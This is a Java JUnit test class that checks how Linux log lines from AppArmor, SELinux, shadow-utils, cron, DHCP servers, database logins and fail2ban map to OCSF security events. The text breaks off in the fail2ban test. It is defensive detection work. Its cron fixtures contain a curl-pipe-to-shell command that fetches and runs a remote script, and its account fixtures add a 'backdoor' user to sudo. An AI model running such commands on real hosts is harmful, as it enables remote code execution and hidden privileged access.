package io.socaas.events.ocsf;

import static io.socaas.events.ocsf.MappedRecords.assertAllowed;
import static io.socaas.events.ocsf.MappedRecords.assertBaseEventOf;
import static io.socaas.events.ocsf.MappedRecords.assertClass;
import static io.socaas.events.ocsf.MappedRecords.assertDenied;
import static io.socaas.events.ocsf.MappedRecords.assertFlow;
import static io.socaas.events.ocsf.MappedRecords.assertLogon;
import static io.socaas.events.ocsf.MappedRecords.assertProduct;
import static io.socaas.events.ocsf.MappedRecords.epochMillis;
import static io.socaas.events.ocsf.MappedRecords.line;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * What a Linux server logs besides sshd and sudo: AppArmor and SELinux decisions (kernel and auditd
 * forms), local accounts and groups changed with the shadow tools, cron's sessions, DHCP leases (ISC
 * dhcpd, Kea, dnsmasq), database logins (PostgreSQL, MySQL and MariaDB), fail2ban's bans and HAProxy's
 * requests. Real lines from the shared
 * corpus (Wazuh's ruleset tests) where it has them, otherwise lines written from each program's
 * source or documentation; other lines of the same programs stay Base Events and other programs'
 * lines with the same words are not claimed.
 */
class LinuxHostAndServerMappingsTest {

    @Test
    void appArmorDecisionsInTheKernelsFormAreFileSystemActivityWithTheAction() throws Exception {
        // corpus (Wazuh kernel/apparmor): a denied open, an exec refused, complain mode, a profile loaded
        JsonNode open = line("Jul 14 11:03:47 hostname kernel: [ 8665.951930] type=1400 audit(1405328627.702:54):"
                + " apparmor=\"DENIED\" operation=\"open\" profile=\"/usr/bin/evince\" name=\"/etc/xfce4/defaults.list\""
                + " pid=16418 comm=\"evince\" requested_mask=\"r\" denied_mask=\"r\" fsuid=1000 ouid=0");
        assertClass(open, 1001, 14);
        assertDenied(open);
        assertThat(open.at("/file/path").asText()).isEqualTo("/etc/xfce4/defaults.list");
        assertThat(open.at("/actor/process/name").asText()).isEqualTo("evince");
        assertThat(open.at("/actor/process/pid").asInt()).isEqualTo(16418);
        assertThat(open.at("/policy/name").asText()).isEqualTo("/usr/bin/evince");
        assertThat(open.get("time").asLong()).isEqualTo(1405328627702L);
        assertThat(open.at("/device/hostname").asText()).isEqualTo("hostname");
        JsonNode exec = line("Jun 16 17:37:39 hostname kernel: [891880.587989] audit: type =1400"
                + " audit(1315353795.331:33657): apparmor=\"DENIED\" operation=\"exec\" parent=14952"
                + " profile=\"/usr/lib/apache2/mpm-prefork/apache2//example.com\" name=\"/usr/lib/sm.bin/sendmail\""
                + " pid=14953 comm=\"sh\" requested_mask=\"x\" denied_mask=\"x\" fsuid=33 ouid=0");
        assertClass(exec, 1007, 1);
        assertDenied(exec);
        assertThat(exec.at("/process/file/path").asText()).isEqualTo("/usr/lib/sm.bin/sendmail");
        assertThat(exec.at("/actor/process/name").asText()).isEqualTo("sh");
        JsonNode complain = line("Jun 24 10:35:29 hostname kernel: [49787.970285] audit: type=1400"
                + " audit(1403598929.839:88986): apparmor=\"ALLOWED\" operation=\"getattr\""
                + " profile=\"/usr/sbin/dovecot//null-1//null-2//null-4a6\" name=\"/home/admin/mails/new/\" pid=19973"
                + " comm=\"imap\" requested_mask=\"r\" denied_mask=\"r\" fsuid=1003 ouid=1003");
        assertClass(complain, 1001, 8);
        assertAllowed(complain);
        assertBaseEventOf(
                line("Jun 23 20:46:15 hostname kernel: [   11.103248] audit: type=1400 audit(1403549175.177:2):"
                        + " apparmor=\"STATUS\" operation=\"profile_load\" name=\"/sbin/klogd\" pid=2185"
                        + " comm=\"apparmor_parser\""),
                "auditd");

        // journald's forward (program audit) and auditd's own AVC record
        JsonNode journald = line("<29>Mar  1 09:00:00 ws1 audit[1234]: AVC apparmor=\"DENIED\" operation=\"open\""
                + " profile=\"snap.firefox.firefox\" name=\"/proc/pressure/memory\" pid=1234 comm=\"firefox\""
                + " requested_mask=\"r\" denied_mask=\"r\" fsuid=1000 ouid=0");
        assertClass(journald, 1001, 14);
        assertDenied(journald);
        assertThat(journald.at("/device/hostname").asText()).isEqualTo("ws1");
        JsonNode auditd = line("type=AVC msg=audit(1700000000.123:77): apparmor=\"DENIED\" operation=\"unlink\""
                + " profile=\"/usr/sbin/cupsd\" name=\"/etc/cups/ppd/x.ppd\" pid=900 comm=\"cupsd\""
                + " requested_mask=\"d\" denied_mask=\"d\" fsuid=0 ouid=0");
        assertClass(auditd, 1001, 4);

        // other kernel lines are not the audit subsystem's
        JsonNode usb = line("Mar 23 15:04:52 manager kernel: usb 1-1: New USB device found, idVendor=0930");
        assertThat(usb.get("class_uid").asInt()).isZero();
        assertThat(usb.at("/metadata/product/name").asText()).isNotEqualTo("auditd");
    }

    @Test
    void seLinuxDenialsAreFileSystemActivityAndPermissiveModeIsAllowed() throws Exception {
        // SELinux documentation's examples (Red Hat's SELinux guide)
        JsonNode denied = line("type=AVC msg=audit(1226874073.147:96): avc:  denied  { getattr } for  pid=2465"
                + " comm=\"httpd\" path=\"/var/www/html/file1\" dev=dm-0 ino=284133"
                + " scontext=unconfined_u:system_r:httpd_t:s0 tcontext=unconfined_u:object_r:samba_share_t:s0"
                + " tclass=file");
        assertClass(denied, 1001, 8);
        assertDenied(denied);
        assertThat(denied.at("/file/path").asText()).isEqualTo("/var/www/html/file1");
        assertThat(denied.at("/actor/process/name").asText()).isEqualTo("httpd");
        assertThat(denied.at("/policy/name").asText()).isEqualTo("unconfined_u:system_r:httpd_t:s0");
        assertThat(denied.get("time").asLong()).isEqualTo(1226874073147L);
        JsonNode permissive = line("<13>Mar  1 09:00:00 db1 kernel: audit: type=1400 audit(1700000000.123:78):"
                + " avc:  denied  { read } for  pid=2465 comm=\"httpd\" name=\"shadow\" dev=\"dm-0\" ino=284133"
                + " scontext=system_u:system_r:httpd_t:s0 tcontext=system_u:object_r:shadow_t:s0 tclass=file"
                + " permissive=1");
        assertClass(permissive, 1001, 2);
        assertAllowed(permissive);
        assertThat(permissive.at("/file/name").asText()).isEqualTo("shadow");
        JsonNode enforcing = line("type=AVC msg=audit(1700000000.123:79): avc:  denied  { write } for  pid=77"
                + " comm=\"nginx\" name=\"app.sock\" scontext=a tcontext=b tclass=sock_file permissive=0");
        assertClass(enforcing, 1001, 3);
        assertDenied(enforcing);
        // a denial on a socket is no file access: a Base Event of the audit log
        assertBaseEventOf(
                line("type=AVC msg=audit(1700000000.123:80): avc:  denied  { name_connect } for  pid=900"
                        + " comm=\"httpd\" dest=3306 scontext=a tcontext=b tclass=tcp_socket permissive=0"),
                "auditd");
    }

    @Test
    void shadowToolsChangesAreAccountChangeAndGroupManagement() throws Exception {
        // written from shadow-utils' source (useradd.c, userdel.c, usermod.c, groupadd.c, gpasswd.c)
        JsonNode created = line("<38>Mar  1 09:00:00 web1 useradd[2211]: new user: name=backdoor, UID=1002,"
                + " GID=1002, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/0");
        assertClass(created, 3001, 1);
        assertThat(created.at("/user/name").asText()).isEqualTo("backdoor");
        assertThat(created.at("/user/uid").asText()).isEqualTo("1002");
        assertThat(created.at("/device/hostname").asText()).isEqualTo("web1");
        assertProduct(created, "Linux");
        JsonNode group = line("<38>Mar  1 09:00:00 web1 groupadd[2210]: group added to /etc/group: name=ops, GID=1003");
        assertClass(group, 3006, 6);
        assertThat(group.at("/group/name").asText()).isEqualTo("ops");
        assertThat(group.at("/group/uid").asText()).isEqualTo("1003");
        JsonNode sudoers = line("<38>Mar  1 09:00:00 web1 usermod[2215]: add 'backdoor' to group 'sudo'");
        assertClass(sudoers, 3006, 3);
        assertThat(sudoers.at("/user/name").asText()).isEqualTo("backdoor");
        assertThat(sudoers.at("/group/name").asText()).isEqualTo("sudo");
        JsonNode byGpasswd = line("<38>Mar  1 09:00:00 web1 gpasswd[2216]: user bob added by root to group docker");
        assertClass(byGpasswd, 3006, 3);
        assertThat(byGpasswd.at("/actor/user/name").asText()).isEqualTo("root");
        assertClass(line("<38>Mar  1 09:00:00 web1 userdel[2219]: delete 'bob' from group 'docker'"), 3006, 4);
        JsonNode deleted = line("<38>Mar  1 09:00:00 web1 userdel[2219]: delete user 'backdoor'");
        assertClass(deleted, 3001, 6);
        assertThat(deleted.at("/user/name").asText()).isEqualTo("backdoor");
        assertClass(line("<38>Mar  1 09:00:00 web1 groupdel[2220]: group 'ops' removed from /etc/group"), 3006, 5);
        assertClass(line("<38>Mar  1 09:00:00 web1 usermod[2221]: lock user 'bob' password"), 3001, 9);
        assertClass(line("<38>Mar  1 09:00:00 web1 usermod[2221]: unlock user 'bob' password"), 3001, 12);
        JsonNode shell =
                line("<38>Mar  1 09:00:00 web1 usermod[2221]: change user 'bob' shell from '/bin/bash' to '/bin/sh'");
        assertClass(shell, 3001, 99);
        assertThat(shell.at("/user/name").asText()).isEqualTo("bob");

        // passwd and chpasswd: PAM's and the shadow tools' own words
        JsonNode pam = line("<38>Mar  1 09:00:00 web1 passwd[2230]: pam_unix(passwd:chauthtok): password changed for"
                + " backdoor");
        assertClass(pam, 3001, 3);
        assertThat(pam.at("/user/name").asText()).isEqualTo("backdoor");
        JsonNode byRoot = line("<38>Mar  1 09:00:00 web1 passwd[2231]: password for 'bob' changed by 'root'");
        assertClass(byRoot, 3001, 3);
        assertThat(byRoot.at("/actor/user/name").asText()).isEqualTo("root");
        assertThat(line("<38>Mar  1 09:00:00 web1 passwd[2232]: pam_unix(passwd:chauthtok): authentication token"
                                + " manipulation error")
                        .get("status_id")
                        .asInt())
                .isEqualTo(2);

        // the tools' other lines are Base Events of Linux; the same words from another program are not claimed
        assertBaseEventOf(line("<38>Mar  1 09:00:00 web1 useradd[2240]: useradd: cannot open /etc/passwd"), "Linux");
        assertThat(line("<38>Mar  1 09:00:00 web1 myapp[1]: new user: name=x, UID=1")
                        .get("class_uid")
                        .asInt())
                .isZero();
    }

    @Test
    void usbDevicesPluggedInAndRemovedArePeripheralActivity() throws Exception {
        for (String line : List.of(
                "<4>Mar 23 15:04:52 manager kernel: usb 1-1: New USB device found, idVendor=0930, idProduct=6545, bcdDevice= 1.00",
                "<4>Mar 23 15:04:52 manager kernel: [62828.333722] usb 1-1: New USB device found, idVendor=0930, idProduct=6545")) {
            JsonNode in = line(line);
            assertProduct(in, "Linux kernel");
            assertThat(in.get("class_uid").asInt()).isEqualTo(1010);
            assertThat(in.get("activity_id").asInt()).as("Connect").isEqualTo(1);
            assertThat(in.at("/peripheral_device/name").asText()).isEqualTo("usb 1-1");
            assertThat(in.at("/peripheral_device/uid").asText()).isEqualTo("1-1");
            assertThat(in.at("/peripheral_device/vendor_id_list/0").asText()).isEqualTo("0930");
            assertThat(in.at("/peripheral_device/model").asText()).isEqualTo("6545");
            assertThat(in.at("/peripheral_device/type").asText()).isEqualTo("USB");
            assertThat(in.at("/device/hostname").asText()).isEqualTo("manager");
        }
        JsonNode out =
                line("<4>Mar 23 15:05:23 manager kernel: [  259.373865] usb 1-1.2: USB disconnect, device number 2");
        assertThat(out.get("class_uid").asInt()).isEqualTo(1010);
        assertThat(out.get("activity_id").asInt()).as("Disconnect").isEqualTo(2);
        assertThat(out.at("/peripheral_device/uid").asText()).isEqualTo("1-1.2");
        // the kernel's other lines are not claimed
        assertThat(line("<4>Mar 23 15:04:52 manager kernel: usb 1-1: Product: DataTraveler 3.0")
                        .get("class_uid")
                        .asInt())
                .isZero();
    }

    @Test
    void cronJobsRunAndCrontabsChangedAreScheduledJobActivity() throws Exception {
        // Debian's cron and cronie's crond
        for (String program : List.of("CRON[4242]", "crond[881]")) {
            JsonNode run = line("<78>Mar  1 09:17:01 web1 " + program
                    + ": (www-data) CMD (curl -fsSL http://203.0.113.9/x.sh | sh > /dev/null 2>&1)");
            assertThat(run.get("class_uid").asInt()).as(program).isEqualTo(1006);
            assertThat(run.get("activity_id").asInt()).isEqualTo(6);
            assertThat(run.at("/job/cmd_line").asText())
                    .isEqualTo("curl -fsSL http://203.0.113.9/x.sh | sh > /dev/null 2>&1");
            assertThat(run.at("/actor/user/name").asText()).isEqualTo("www-data");
        }
        JsonNode reload = line("<78>Mar  1 09:18:01 web1 cron[612]: (www-data) RELOAD (crontabs/www-data)");
        assertThat(reload.get("class_uid").asInt()).isEqualTo(1006);
        assertThat(reload.get("activity_id").asInt()).as("Update").isEqualTo(2);
        assertThat(reload.at("/job/name").asText()).isEqualTo("crontabs/www-data");
        JsonNode replaced = line("<78>Mar  1 09:17:55 web1 crontab[5120]: (root) REPLACE (www-data)");
        assertThat(replaced.get("activity_id").asInt()).as("Update").isEqualTo(2);
        assertThat(replaced.at("/actor/user/name").asText()).isEqualTo("root");
        assertThat(replaced.at("/job/name").asText()).isEqualTo("www-data");
        assertThat(line("<78>Mar  1 09:19:00 web1 crontab[5121]: (bob) DELETE (bob)")
                        .get("activity_id")
                        .asInt())
                .as("Delete")
                .isEqualTo(3);
        // cron's other words are no job run
        assertThat(line("<78>Mar  1 09:17:01 web1 CRON[4242]: (CRON) info (No MTA installed, discarding output)")
                        .get("class_uid")
                        .asInt())
                .isZero();
        assertThat(line("<78>Mar  1 09:17:01 web1 crontab[5122]: (bob) LIST (bob)")
                        .get("class_uid")
                        .asInt())
                .isZero();
    }

    @Test
    void cronSessionsAreBatchLogons() throws Exception {
        JsonNode opened = line("<86>Mar  1 09:17:01 web1 CRON[12345]: pam_unix(cron:session): session opened for"
                + " user root(uid=0) by (uid=0)");
        assertLogon(opened, 1, "root", null);
        assertThat(opened.get("logon_type_id").asInt()).isEqualTo(4);
        assertThat(opened.get("logon_type").asText()).isEqualTo("Batch");
        JsonNode closed =
                line("<86>Mar  1 09:17:01 web1 CRON[12345]: pam_unix(cron:session): session closed for user root");
        assertClass(closed, 3002, 2);
        // a login's session is not a Batch logon
        JsonNode login = line("<86>Mar  1 09:17:01 web1 login[999]: pam_unix(login:session): session opened for"
                + " user alice(uid=1000) by LOGIN(uid=0)");
        assertLogon(login, 1, "alice", null);
        assertThat(login.has("logon_type_id")).isFalse();
    }

    @Test
    void dhcpServersLeasesAreDhcpActivityByMessageType() throws Exception {
        // written from ISC dhcpd's source (dhcp.c) and the lines it writes
        JsonNode discover =
                line("<30>Mar  1 09:00:00 gw dhcpd[811]: DHCPDISCOVER from 00:11:22:33:44:55 (laptop-7)" + " via eth0");
        assertClass(discover, 4004, 1);
        assertThat(discover.at("/src_endpoint/mac").asText()).isEqualTo("00:11:22:33:44:55");
        assertThat(discover.at("/src_endpoint/hostname").asText()).isEqualTo("laptop-7");
        assertThat(discover.at("/dst_endpoint/interface_name").asText()).isEqualTo("eth0");
        assertProduct(discover, "ISC DHCP");
        JsonNode request = line("<30>Mar  1 09:00:00 gw dhcpd[811]: DHCPREQUEST for 192.168.1.50 (192.168.1.1) from"
                + " 00:11:22:33:44:55 (laptop-7) via eth0");
        assertClass(request, 4004, 3);
        assertThat(request.at("/src_endpoint/ip").asText()).isEqualTo("192.168.1.50");
        assertThat(request.at("/dst_endpoint/ip").asText()).isEqualTo("192.168.1.1");
        JsonNode ack = line("<30>Mar  1 09:00:00 gw dhcpd[811]: DHCPACK on 192.168.1.50 to 00:11:22:33:44:55"
                + " (laptop-7) via eth0");
        assertClass(ack, 4004, 5);
        assertThat(ack.at("/src_endpoint/ip").asText()).isEqualTo("192.168.1.50");
        JsonNode relayed =
                line("<30>Mar  1 09:00:00 gw dhcpd[811]: DHCPNAK on 10.1.2.3 to 00:11:22:33:44:55 via 10.9.0.1");
        assertClass(relayed, 4004, 6);
        assertThat(relayed.at("/relay/ip").asText()).isEqualTo("10.9.0.1");
        assertThat(relayed.at("/dst_endpoint").has("interface_name")).isFalse();
        assertClass(
                line("<30>Mar  1 09:00:00 gw dhcpd[811]: DHCPRELEASE of 192.168.1.50 from 00:11:22:33:44:55"
                        + " (laptop-7) via eth0 (found)"),
                4004,
                7);
        JsonNode inform = line("<30>Mar  1 09:00:00 gw dhcpd[811]: DHCPINFORM from 192.168.1.77 via eth0");
        assertClass(inform, 4004, 8);
        assertThat(inform.at("/src_endpoint/ip").asText()).isEqualTo("192.168.1.77");
        assertBaseEventOf(line("<30>Mar  1 09:00:00 gw dhcpd[811]: Server starting service."), "ISC DHCP");

        // Kea (its message ids, from Kea's messages documentation)
        JsonNode alloc = line("<30>Mar  1 09:00:00 gw kea-dhcp4[900]: INFO  [kea-dhcp4.leases/900.140]"
                + " DHCP4_LEASE_ALLOC [hwtype=1 00:11:22:33:44:55], cid=[01:00:11:22:33:44:55], tid=0x1a2b3c4d: lease"
                + " 192.168.1.50 has been allocated for 3600 seconds");
        assertClass(alloc, 4004, 5);
        assertThat(alloc.get("lease_dur").asInt()).isEqualTo(3600);
        assertThat(alloc.at("/src_endpoint/mac").asText()).isEqualTo("00:11:22:33:44:55");
        assertClass(
                line("<30>Mar  1 09:00:00 gw kea-dhcp4[900]: INFO  [kea-dhcp4.leases/900.140] DHCP4_RELEASE"
                        + " [hwtype=1 00:11:22:33:44:55], cid=[no info], tid=0x1: address 192.168.1.50 was released"
                        + " properly."),
                4004,
                7);

        // dnsmasq's DHCP server (with log-dhcp's transaction id)
        JsonNode dnsmasq = line(
                "<30>Mar  1 09:29:01 gw dnsmasq-dhcp[812]: DHCPACK(eth0) 192.168.1.5" + " aa:bb:cc:dd:ee:ff laptop");
        assertClass(dnsmasq, 4004, 5);
        assertThat(dnsmasq.at("/src_endpoint/hostname").asText()).isEqualTo("laptop");
        assertProduct(dnsmasq, "dnsmasq");
        JsonNode xid = line("<30>Mar  1 09:29:01 gw dnsmasq-dhcp[812]: 2983721823 DHCPDISCOVER(br0) aa:bb:cc:dd:ee:ff");
        assertClass(xid, 4004, 1);
        assertThat(xid.get("transaction_uid").asText()).isEqualTo("2983721823");
        assertThat(xid.at("/src_endpoint").has("hostname")).isFalse();

        // the same words from another program are not claimed
        assertThat(line("<30>Mar  1 09:00:00 gw myapp[1]: DHCPACK on 192.168.1.50 to 00:11:22:33:44:55 via eth0")
                        .get("class_uid")
                        .asInt())
                .isZero();
    }

    @Test
    void dhcpdRefusalsRelaysLeaseDurationsAndTransactionsAreRead() throws Exception {
        // the pool is exhausted: a failed Discover with the reason
        JsonNode exhausted = line("<30>Feb 27 08:10:02 dhcp2 dhcpd[3301]: DHCPDISCOVER from 00:16:3e:4a:10:07 via eth1:"
                + " network 192.0.2.0/25: no free leases");
        assertClass(exhausted, 4004, 1);
        assertThat(exhausted.get("status_id").asInt()).as("%s", exhausted).isEqualTo(2);
        assertThat(exhausted.get("status_detail").asText()).isEqualTo("no free leases");
        assertThat(exhausted.at("/src_endpoint/mac").asText()).isEqualTo("00:16:3e:4a:10:07");
        JsonNode notAuthoritative = line("<30>Feb 27 08:10:03 dhcp2 dhcpd[3301]: DHCPREQUEST for 198.51.100.77"
                + " (198.51.100.1) from 00:16:3e:4a:10:08 via eth1: ignored (not authoritative).");
        assertClass(notAuthoritative, 4004, 3);
        assertThat(notAuthoritative.get("status_detail").asText()).isEqualTo("ignored (not authoritative)");
        // Infoblox NIOS's dhcpd: relay, lease duration, transaction id and a renewal
        JsonNode ack = line("<30>Feb 27 08:10:04 nios1.example.com dhcpd[4410]: DHCPACK on 192.0.2.61 to"
                + " 00:16:3e:4a:10:09 (PRN-FLOOR2) via eth2 relay 192.0.2.1 lease-duration 86400 (RENEW) uid"
                + " 01:00:16:3e:4a:10:09");
        assertClass(ack, 4004, 5);
        assertThat(ack.at("/src_endpoint/ip").asText()).isEqualTo("192.0.2.61");
        assertThat(ack.at("/src_endpoint/hostname").asText()).isEqualTo("PRN-FLOOR2");
        assertThat(ack.at("/relay/ip").asText()).isEqualTo("192.0.2.1");
        assertThat(ack.get("lease_dur").asInt()).isEqualTo(86400);
        assertThat(ack.get("is_renewal").asBoolean()).isTrue();
        assertThat(ack.has("status_id")).as("an Ack is no failure: %s", ack).isFalse();
        JsonNode discover = line("<30>Feb 27 08:10:05 nios1.example.com dhcpd[4410]: DHCPDISCOVER from"
                + " 00:16:3e:4a:10:0a (kiosk-3) via eth2 TransID 5c2e91d0 uid 01:00:16:3e:4a:10:0a");
        assertThat(discover.get("transaction_uid").asText()).isEqualTo("5c2e91d0");
        assertThat(discover.has("is_renewal")).isFalse();
        // a lease query names the asking agent's address without the colon that follows it
        JsonNode leaseQuery = line("<30>Feb 27 08:10:06 nios1.example.com dhcpd[4410]: DHCPLEASEQUERY from"
                + " 192.0.2.1: LEASEQUERY not allowed, query ignored");
        assertThat(leaseQuery.at("/src_endpoint/ip").asText()).isEqualTo("192.0.2.1");
        // a release of a lease the server did not know is no refusal
        JsonNode release = line("<30>Feb 27 08:10:07 dhcp2 dhcpd[3301]: DHCPRELEASE of 192.0.2.62 from"
                + " 00:16:3e:4a:10:0b via eth1 (not found)");
        assertClass(release, 4004, 7);
        assertThat(release.has("status_id")).isFalse();
    }

    @Test
    void databaseLoginsAreAuthenticationWithTheClient() throws Exception {
        // PostgreSQL (messages from its source, auth.c), through syslog and in its own log file with common prefixes
        JsonNode viaSyslog = line("<30>Mar  1 09:00:00 db1 postgres[4432]: [3-1] 2026-03-01 09:00:00 UTC FATAL: "
                + " password authentication failed for user \"admin\"");
        assertLogon(viaSyslog, 2, "admin", null);
        assertProduct(viaSyslog, "PostgreSQL");
        assertThat(viaSyslog.at("/device/hostname").asText()).isEqualTo("db1");
        JsonNode debian = line("2026-03-01 09:00:00.123 UTC [4432] admin@appdb FATAL:  password authentication failed"
                + " for user \"admin\"");
        assertLogon(debian, 2, "admin", null);
        assertThat(debian.get("time").asLong()).isEqualTo(epochMillis("2026-03-01T09:00:00.123Z"));
        assertThat(debian.has("device")).as("the zone is no host: %s", debian).isFalse();
        assertLogon(
                line("2026-03-01 09:00:00.123 UTC [4432]: [1-1] user=admin,db=appdb,app=psql,client=10.0.0.5 FATAL:"
                        + "  password authentication failed for user \"admin\""),
                2,
                "admin",
                "10.0.0.5");
        assertLogon(
                line("2026-03-01 09:00:00 UTC:10.0.0.7(51234):admin@appdb:[4432]:FATAL:  password authentication"
                        + " failed for user \"admin\""),
                2,
                "admin",
                "10.0.0.7");
        JsonNode hba = line("2026-03-01 09:00:00.123 UTC [4432] FATAL:  no pg_hba.conf entry for host"
                + " \"203.0.113.9\", user \"postgres\", database \"postgres\", no encryption");
        assertLogon(hba, 2, "postgres", "203.0.113.9");
        assertThat(hba.get("status_detail").asText()).isEqualTo("no pg_hba.conf entry");
        assertLogon(
                line("2026-03-01 09:00:00.123 UTC [4432] FATAL:  role \"oracle\" does not exist"), 2, "oracle", null);
        assertLogon(
                line("2026-03-01 09:00:00.123 UTC [4432] LOG:  connection authorized: user=app database=appdb"
                        + " application_name=psql"),
                1,
                "app",
                null);
        assertBaseEventOf(line("2026-03-01 09:00:00.123 UTC [4432] LOG:  checkpoint starting: time"), "PostgreSQL");

        // MySQL 8 and MariaDB error logs, through syslog and as files
        JsonNode mysql = line("<30>Mar  1 09:00:00 db1 mysqld[1033]: 2026-03-01T09:00:00.123456Z 12 [Note]"
                + " [MY-010926] [Server] Access denied for user 'root'@'10.0.0.5' (using password: YES)");
        assertLogon(mysql, 2, "root", "10.0.0.5");
        assertProduct(mysql, "MySQL");
        JsonNode file = line("2026-03-01T09:00:00.123456Z 12 [Warning] [MY-010055] [Server] Access denied for user"
                + " 'root'@'localhost' (using password: NO)");
        assertLogon(file, 2, "root", null);
        assertThat(file.at("/src_endpoint/hostname").asText()).isEqualTo("localhost");
        assertThat(file.has("device")).as("the thread id is no host: %s", file).isFalse();
        assertLogon(
                line("2026-03-01  9:00:00 12 [Warning] Access denied for user 'wp'@'192.168.1.20' (using password:"
                        + " YES)"),
                2,
                "wp",
                "192.168.1.20");
        JsonNode aborted = line("2026-03-01  9:00:00 13 [Warning] Aborted connection 13 to db: 'unconnected' user:"
                + " 'unauthenticated' host: '203.0.113.9' (This connection closed normally without authentication)");
        assertFlow(aborted, 4, "203.0.113.9", null, "", null);
        assertBaseEventOf(line("2026-03-01  9:00:00 0 [Note] InnoDB: Buffer pool(s) load completed"), "MySQL");

        // the same words in another program's line are not claimed
        JsonNode other = line(
                "<30>Mar  1 09:00:00 web1 myapp[1]: FATAL:  password authentication failed for user" + " \"admin\"");
        assertThat(other.get("class_uid").asInt()).isZero();
    }

    @Test
    void databaseLoginsOfEveryMethodPrefixAndLogFormAreRead() throws Exception {
        // PostgreSQL: log_line_prefix '%m [%p-%l] %q%u@%d ' (process id and line number)
        JsonNode numbered =
                line("2026-02-27 17:20:11 CEST [6120-1] report@sales FATAL:  role \"reportx\" does not" + " exist");
        assertLogon(numbered, 2, "reportx", null);
        assertProduct(numbered, "PostgreSQL");
        assertThat(numbered.get("time").asLong()).isEqualTo(epochMillis("2026-02-27T15:20:11Z"));
        // methods other than password, as auth.c capitalizes them
        for (String method : List.of("Peer", "Ident", "LDAP", "RADIUS", "PAM", "certificate", "GSSAPI")) {
            JsonNode r = line("2026-02-27 15:20:12.501 UTC [6121] FATAL:  " + method
                    + " authentication failed for user \"svc_etl\"");
            assertLogon(r, 2, "svc_etl", null);
            assertThat(r.get("status_detail").asText()).isEqualTo(method + " authentication failed");
        }
        // a reject entry of pg_hba.conf, and a role without LOGIN
        JsonNode reject = line("2026-02-27 15:20:13.002 UTC [6122] FATAL:  pg_hba.conf rejects connection for host"
                + " \"198.51.100.31\", user \"postgres\", database \"sales\", SSL encryption");
        assertLogon(reject, 2, "postgres", "198.51.100.31");
        assertThat(reject.get("status_detail").asText()).isEqualTo("pg_hba.conf rejects connection");
        JsonNode nologin = line("2026-02-27 15:20:13.118 UTC [6123] user=readers,db=sales,app=psql,client=192.0.2.80"
                + " FATAL:  role \"readers\" is not permitted to log in");
        assertLogon(nologin, 2, "readers", "192.0.2.80");
        // log_connections: the connection received (the client's address and port), PostgreSQL 14's identity
        JsonNode received =
                line("2026-02-27 15:20:14.300 UTC [6124] LOG:  connection received: host=192.0.2.80" + " port=50412");
        assertFlow(received, 1, "192.0.2.80", 50412, "", null);
        assertProduct(received, "PostgreSQL");
        JsonNode named = line(
                "2026-02-27 15:20:14.300 UTC [6124] LOG:  connection received: host=app3.example.com" + " port=50413");
        assertThat(named.at("/src_endpoint/hostname").asText()).as("%s", named).isEqualTo("app3.example.com");
        assertThat(named.at("/src_endpoint/ip").isMissingNode()).isTrue();
        JsonNode identity = line("2026-02-27 15:20:14.322 UTC [6124] LOG:  connection authenticated:"
                + " identity=\"svc_etl\" method=scram-sha-256 (/etc/postgresql/16/main/pg_hba.conf:98)");
        assertLogon(identity, 1, "svc_etl", null);
        assertThat(identity.get("auth_protocol").asText()).isEqualTo("scram-sha-256");
        // a client on the local socket, a missing database and the detail line after a failure stay Base Events
        assertBaseEventOf(
                line("2026-02-27 15:20:15.010 UTC [6125] LOG:  connection received: host=[local]"), "PostgreSQL");
        assertBaseEventOf(
                line("2026-02-27 15:20:15.020 UTC [6125] FATAL:  database \"salez\" does not exist"), "PostgreSQL");
        assertBaseEventOf(
                line("2026-02-27 15:20:15.030 UTC [6125] DETAIL:  Connection matched file"
                        + " \"/etc/postgresql/16/main/pg_hba.conf\" line 98: \"host all all 0.0.0.0/0 scram-sha-256\""),
                "PostgreSQL");

        // MariaDB's and MySQL 5.5's times, the hour padded with a space
        JsonNode mariadb = line("2026-02-27  7:05:09 88 [Warning] Access denied for user 'backup'@'192.0.2.81'"
                + " (using password: YES)");
        assertLogon(mariadb, 2, "backup", "192.0.2.81");
        assertThat(mariadb.get("time").asLong()).isEqualTo(epochMillis("2026-02-27T07:05:09Z"));
        JsonNode mysql55 = line("260227  7:05:10 [Warning] Access denied for user 'backup'@'db2.example.com'"
                + " (using password: NO)");
        assertLogon(mysql55, 2, "backup", null);
        assertThat(mysql55.at("/src_endpoint/hostname").asText()).isEqualTo("db2.example.com");
        assertThat(mysql55.get("time").asLong()).isEqualTo(epochMillis("2026-02-27T07:05:10Z"));
        // before login MySQL names no user: 'unauthenticated' is none; after it the user is the actor
        JsonNode preAuth = line("2026-02-27T07:05:11.204518Z 90 [Note] [MY-010914] [Server] Aborted connection 90 to"
                + " db: 'unconnected' user: 'unauthenticated' host: '203.0.113.40' (Got an error reading"
                + " communication packets).");
        assertFlow(preAuth, 4, "203.0.113.40", null, "", null);
        assertThat(preAuth.at("/actor/user").isMissingNode()).as("%s", preAuth).isTrue();
        JsonNode postAuth = line("2026-02-27T07:05:12.000001Z 91 [Note] [MY-010914] [Server] Aborted connection 91 to"
                + " db: 'sales' user: 'backup' host: '192.0.2.81' (Got timeout reading communication packets).");
        assertThat(postAuth.at("/actor/user/name").asText()).isEqualTo("backup");
        assertBaseEventOf(line("260227  7:05:13 [Note] /usr/sbin/mysqld: ready for connections."), "MySQL");
    }

    @Test
    void fail2banBansAreDetectionFindingsWithTheBannedAddress() throws Exception {
        // written from fail2ban's actions (server/actions.py) as syslog and its own log file write them
        JsonNode ban = line("<13>Mar  1 09:00:01 web1 fail2ban.actions[1234]: NOTICE  [sshd] Ban 203.0.113.9");
        assertClass(ban, 2004, 1);
        assertDenied(ban);
        assertThat(ban.at("/finding_info/title").asText()).isEqualTo("sshd");
        assertThat(ban.at("/evidences/0/src_endpoint/ip").asText()).isEqualTo("203.0.113.9");
        assertThat(ban.get("severity_id").asInt()).isEqualTo(3);
        assertProduct(ban, "fail2ban");
        JsonNode restored = line("2026-03-01 09:00:00,123 fail2ban.actions        [1234]: NOTICE  [nginx-http-auth]"
                + " Restore Ban 198.51.100.7");
        assertClass(restored, 2004, 1);
        assertThat(restored.at("/evidences/0/src_endpoint/ip").asText()).isEqualTo("198.51.100.7");
        assertClass(line("<13>Mar  1 09:10:01 web1 fail2ban.actions[1234]: NOTICE  [sshd] Unban 203.0.113.9"), 2004, 3);
        assertBaseEventOf(
                line("2026-03-01 09:00:00,123 fail2ban.filter         [1234]: INFO    [sshd] Found 203.0.113.9 -"
